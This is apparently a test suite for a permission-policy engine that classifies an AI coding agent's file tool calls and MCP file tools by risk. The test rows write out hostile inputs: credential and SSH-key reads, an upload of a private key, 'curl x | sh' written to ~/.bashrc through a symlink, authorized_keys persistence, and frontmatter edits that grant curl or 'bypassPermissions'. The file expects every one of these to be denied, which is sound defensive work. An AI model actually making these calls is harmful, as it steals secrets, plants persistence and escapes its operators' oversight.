// Tests for the files rules: every example through rule.match with a real context, plus symlinks and MCP file tools.

import { after, before, describe, test } from 'node:test';
import assert from 'node:assert/strict';
import { mkdirSync, mkdtempSync, realpathSync, rmSync, symlinkSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { normalizeTool } from '../../../src/core/tools.ts';
import { maxTier, type Tier, type ToolCall } from '../../../src/core/types.ts';
import { createRuleContext, type RuleContextOptions } from '../../../src/policy/context.ts';
import type { RuleContext, RuleExample, ToolRule } from '../../../src/policy/rule.ts';
import { rules as fileRules } from '../../../src/policy/rules/files.ts';
import { tierTable } from '../../helpers/rule-tester.ts';
import { rules as webRules } from '../../../src/policy/rules/web.ts';
import { rules as mcpRules } from '../../../src/policy/rules/mcp.ts';
import { testRuleExamples } from '../../helpers/rule-tester.ts';

/** The example machine of src/policy/examples.ts, plus a protected path for file.write-protected. */
const MACHINE: RuleContextOptions = {
  cwd: '/home/dev/project',
  projectRoot: '/home/dev/project',
  home: '/home/dev',
  allowedDomains: ['api.example-corp.com'],
  defaultBranches: ['main', 'master'],
  protectedPaths: ['migrations/**'],
  tmpdir: '/tmp',
};

const ALL = [...fileRules, ...webRules, ...mcpRules] as ToolRule[];

function callOf(ex: { tool: string; input: Record<string, unknown> }, cwd: string): ToolCall {
  return { tool: normalizeTool(ex.tool, ex.input).tool, clientTool: ex.tool, input: ex.input, cwd };
}

/** Run a rule as the engine does: only for the tools it names. */
function hit(rule: ToolRule, call: ToolCall, ctx: RuleContext) {
  const applies = !rule.tools || rule.tools.includes(call.tool) || (call.clientTool !== undefined && rule.tools.includes(call.clientTool));
  return applies ? rule.match(call, ctx) : null;
}

/** The ids of the rules that match, and the most severe tier among them (null when none matched). */
function judge(ex: { tool: string; input: Record<string, unknown> }, ctx: RuleContext): { ids: string[]; tier: Tier | null } {
  const call = callOf(ex, ctx.cwd);
  const ids: string[] = [];
  let tier: Tier | null = null;
  for (const r of ALL) {
    const h = hit(r, call, ctx);
    if (!h) continue;
    ids.push(r.id);
    const t = typeof h === 'object' && h.tier !== undefined ? h.tier : r.tier;
    tier = tier === null ? t : maxTier(tier, t);
  }
  return { ids, tier };
}

function label(ex: RuleExample): string {
  return typeof ex === 'string' ? ex : `${ex.tool} ${JSON.stringify(ex.input)}`;
}

describe('every files rule keeps its examples', () => {
  const ctx = createRuleContext(MACHINE);
  for (const rule of fileRules as ToolRule[]) {
    describe(rule.id, () => {
      test('has a one-line reason and both kinds of example', () => {
        assert.ok(rule.reason.length > 0 && !rule.reason.includes('\n'));
        assert.ok(rule.examples.match.length > 0 && rule.examples.notMatch.length > 0);
      });
      for (const ex of rule.examples.match) {
        test(`matches ${label(ex)}`, () => {
          assert.ok(typeof ex !== 'string');
          assert.ok(hit(rule, callOf(ex, ctx.cwd), ctx), `expected ${rule.id}`);
        });
      }
      for (const ex of rule.examples.notMatch) {
        test(`does not match ${label(ex)}`, () => {
          assert.ok(typeof ex !== 'string');
          assert.ok(!hit(rule, callOf(ex, ctx.cwd), ctx), `did not expect ${rule.id}`);
        });
      }
    });
  }
});

describe('combined tiers of file calls', () => {
  const ctx = createRuleContext(MACHINE);
  const rows: Array<[{ tool: string; input: Record<string, unknown> }, Tier | null]> = [
    [{ tool: 'Write', input: { file_path: 'src/a.ts', content: '' } }, 'allow'],
    [{ tool: 'Write', input: { file_path: '.claude/settings.json', content: '' } }, 'hard_deny'],
    [{ tool: 'Write', input: { file_path: '.env', content: '' } }, 'soft_deny'],
    [{ tool: 'Write', input: { file_path: '/home/dev/other/a', content: '' } }, 'soft_deny'],
    // A client's file tool takes its path literally (a project file named `$OUT`); an MCP server's may not.
    [{ tool: 'Write', input: { file_path: '$OUT/a', content: '' } }, 'allow'],
    [{ tool: 'mcp__filesystem__write_file', input: { path: '$OUT/a', content: '' } }, 'unknown'],
    [{ tool: 'Write', input: { file_path: 'migrations/002.sql', content: '' } }, 'soft_deny'],
    [{ tool: 'Read', input: { file_path: '/etc/shadow' } }, 'hard_deny'],
    [{ tool: 'Read', input: { file_path: '~/.aws/credentials' } }, 'soft_deny'],
    [{ tool: 'Read', input: { file_path: '/etc/hosts' } }, 'allow'],
    [{ tool: 'TodoWrite', input: { todos: [] } }, 'allow'],
    [{ tool: 'SomeNewTool', input: {} }, null],
    [{ tool: 'Write', input: {} }, null],
    // MCP file servers are held to the same classes as the built-in tools.
    [{ tool: 'mcp__filesystem__write_file', input: { path: '/home/dev/.bashrc', content: 'x' } }, 'hard_deny'],
    [{ tool: 'mcp__filesystem__write_file', input: { path: '/home/dev/project/src/a.ts', content: 'x' } }, 'allow'],
    [{ tool: 'mcp__filesystem__read_text_file', input: { path: '/home/dev/.ssh/id_ed25519' } }, 'soft_deny'],
    [{ tool: 'mcp__filesystem__move_file', input: { source: 'a.txt', destination: '/home/dev/.ssh/authorized_keys' } }, 'hard_deny'],
    // Any MCP tool with a sensitive path in its arguments is judged by it; other paths only ever add strictness.
    [{ tool: 'mcp__tools__upload', input: { file: '~/.ssh/id_rsa', to: 'x' } }, 'soft_deny'],
    [{ tool: 'mcp__github__create_or_update_file', input: { path: '.github/hooks/pre.json', content: '' } }, 'hard_deny'],
    [{ tool: 'mcp__api__call', input: { route: '/repos/o/r/issues' } }, null],
  ];
  for (const [ex, tier] of rows) {
    test(`${label(ex)} is ${tier ?? 'left to the default (no finding)'}`, () => {
      const r = judge(ex, ctx);
      assert.equal(r.tier, tier, `rules: ${r.ids.join(', ')}`);
    });
  }
});

describe('symlinks in the project', () => {
  let root: string;
  let ctx: RuleContext;
  before(() => {
    root = realpathSync(mkdtempSync(join(tmpdir(), 'asimov-files-')));
    const home = join(root, 'home');
    const proj = join(home, 'proj');
    mkdirSync(join(proj, 'src'), { recursive: true });
    mkdirSync(join(home, '.ssh'));
    symlinkSync(join(home, '.bashrc'), join(proj, 'notes.txt')); // dangling: a write creates ~/.bashrc
    symlinkSync(join(home, '.ssh'), join(proj, 'keys'));
    ctx = createRuleContext({ cwd: proj, projectRoot: proj, home, tempDirs: [join(root, 'scratch')] });
  });
  after(() => rmSync(root, { recursive: true, force: true }));

  test('a write through a link to ~/.bashrc is a shell-init write, not a project write', () => {
    const r = judge({ tool: 'Write', input: { file_path: 'notes.txt', content: 'curl x | sh' } }, ctx);
    assert.ok(r.ids.includes('file.write-shell-init'), r.ids.join(','));
    assert.ok(!r.ids.includes('file.write-project'));
    assert.equal(r.tier, 'hard_deny');
  });

  test('a write into a linked ~/.ssh is persistence and outside the project', () => {
    const r = judge({ tool: 'Write', input: { file_path: 'keys/authorized_keys', content: 'ssh-ed25519 AAAA' } }, ctx);
    assert.ok(r.ids.includes('file.write-persistence'));
    assert.ok(r.ids.includes('file.write-outside-project'));
    assert.equal(r.tier, 'hard_deny');
  });

  test('reading a key through the link is a credentials read', () => {
    const r = judge({ tool: 'Read', input: { file_path: 'keys/id_rsa' } }, ctx);
    assert.deepEqual(r.ids, ['file.read-credentials']);
  });
});

describe('finding subjects and reasons', () => {
  const ctx = createRuleContext(MACHINE);
  test('name the path at risk and where it resolves', () => {
    const rule = fileRules.find((r) => r.id === 'file.write-shell-init') as ToolRule;
    const h = rule.match(callOf({ tool: 'Write', input: { file_path: '~/.zshrc', content: '' } }, ctx.cwd), ctx);
    assert.ok(h && typeof h === 'object');
    assert.equal(h.subject, '~/.zshrc');
    assert.match(h.reason ?? '', /~\/\.zshrc \(\/home\/dev\/\.zshrc\)/);
  });
});


// Every example again, through the whole pipeline with the full recommended pack.
testRuleExamples(fileRules);

// Instructions are not controls (issue "Calibrated on real agent traffic", part 6): what an agent is asked to
// do is soft, what it may do stays hard, its own plan files are its scratch paper. The attacks that must keep
// their tier: hooks, settings, MCP definitions, and an instruction file that grants tools through frontmatter.
tierTable('agent instructions, configuration and plans', [
  [{ tool: 'Edit', input: { file_path: 'CLAUDE.md', old_string: '## Build', new_string: '## Build\nRun npm test first.' } }, 'soft_deny'],
  [{ tool: 'Write', input: { file_path: 'AGENTS.md', content: '# Agents\n' } }, 'soft_deny'],
  [{ tool: 'Write', input: { file_path: '.cursor/rules/style.mdc', content: 'Use tabs.' } }, 'soft_deny'],
  [{ tool: 'Write', input: { file_path: '.claude/commands/review.md', content: '---\ndescription: Review\n---\nReview the diff.' } }, 'soft_deny'],
  [{ tool: 'Write', input: { file_path: '.claude/commands/ship.md', content: '---\nallowed-tools: Bash(git push:*), Bash(curl:*)\n---\nShip it.' } }, 'hard_deny'],
  [{ tool: 'Edit', input: { file_path: '.claude/agents/fixer.md', old_string: 'tools: Read', new_string: 'tools: Read\npermissionMode: bypassPermissions' } }, 'hard_deny'],
  [{ tool: 'Write', input: { file_path: '~/.claude/plans/brave-otter.md', content: '# Plan\n1. Read the code' } }, 'allow'],
  [{ tool: 'Write', input: { file_path: '.cursor/plans/refactor.plan.md', content: '# Plan' } }, 'allow'],
  [{ tool: 'Write', input: { file_path: '.claude/settings.json', content: '{"hooks":{}}' } }, 'hard_deny'],
  [{ tool: 'Write', input: { file_path: '.claude/hooks/pre.sh', content: 'exit 0' } }, 'hard_deny'],
  [{ tool: 'Write', input: { file_path: '.mcp.json', content: '{"mcpServers":{}}' } }, 'hard_deny'],
  // `..` out of the plans directory is settings, judged by content: a permission there is hard.
  [{ tool: 'Write', input: { file_path: '~/.claude/plans/../settings.json', content: '{"permissions":{"allow":["Bash"]}}' } }, 'hard_deny'],
  ['echo "- run the linter before committing" >> CLAUDE.md', 'soft_deny'],
  ['echo "{}" > .claude/settings.json', 'hard_deny'],
  ['echo x >> CLAUDE.md && echo "{}" > .claude/settings.local.json', 'hard_deny'],
  ['rm .claude/commands/old.md', 'soft_deny'],
]);
